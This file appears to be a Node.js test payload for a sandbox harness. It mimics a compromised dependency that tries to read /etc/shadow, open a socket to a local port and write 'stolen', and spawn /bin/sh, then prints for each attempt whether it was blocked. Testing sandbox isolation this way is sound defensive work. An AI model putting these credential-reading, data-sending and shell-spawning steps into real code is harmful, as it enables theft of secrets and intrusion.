// The payload the hostile engine scripts run after loading their model, as a compromised
// dependency or a model file with a code path would: read a secret, phone home, get a shell.
// Each attempt prints "[payload] WHAT: blocked (REASON)" or "[payload] WHAT: SUCCEEDED (...)".
import { readFileSync } from "node:fs";
import { connect } from "node:net";
import { spawnSync } from "node:child_process";

function say(what, blocked, why) {
    console.log(`[payload] ${what}: ${blocked ? "blocked" : "SUCCEEDED"} (${why})`);
}

function tryConnect(host, port, ms) {
    return new Promise((resolve) => {
        const s = connect({ host, port });
        const done = (r) => { clearTimeout(timer); s.destroy(); resolve(r); };
        const timer = setTimeout(() => done({ ok: false, why: "timeout" }), ms);
        s.once("connect", () => { s.write("stolen\n"); done({ ok: true, why: "connected" }); });
        s.once("error", (e) => done({ ok: false, why: e.code || e.message }));
    });
}

export async function runPayload(port) {
    try {
        const b = readFileSync("/etc/shadow");
        say("read /etc/shadow", false, `${b.length} bytes`);
    } catch (e) {
        say("read /etc/shadow", true, e.code || e.message);
    }
    const c = await tryConnect("127.0.0.1", port, 2000);
    say(`connect to 127.0.0.1:${port}`, !c.ok, c.why);
    const r = spawnSync("/bin/sh", ["-c", "echo shell-ran"], { encoding: "utf8", timeout: 5000 });
    if (r.error) say("spawn /bin/sh", true, r.error.code || r.error.message);
    else if (r.status === 0 && r.stdout.includes("shell-ran")) say("spawn /bin/sh", false, "it ran");
    else say("spawn /bin/sh", true, `exit ${r.status} signal ${r.signal} ${r.stderr.trim()}`);
}
